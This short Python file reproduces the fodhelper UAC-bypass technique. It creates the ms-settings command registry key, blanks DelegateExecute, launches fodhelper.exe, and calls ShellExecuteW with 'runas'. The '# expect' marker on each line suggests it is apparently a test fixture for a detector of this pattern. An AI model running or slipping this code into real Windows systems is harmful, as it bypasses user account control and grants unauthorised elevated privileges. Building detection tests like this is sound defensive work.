import ctypes
import os
import sys
import winreg

key = winreg.CreateKey(winreg.HKEY_CURRENT_USER, "Software\\Classes\\ms-settings\\shell\\open\\command")  # expect
winreg.SetValueEx(key, "DelegateExecute", 0, winreg.REG_SZ, "")  # expect
os.system("fodhelper.exe")  # expect
ctypes.windll.shell32.ShellExecuteW(None, "runas", sys.executable, __file__, None, 1)  # expect
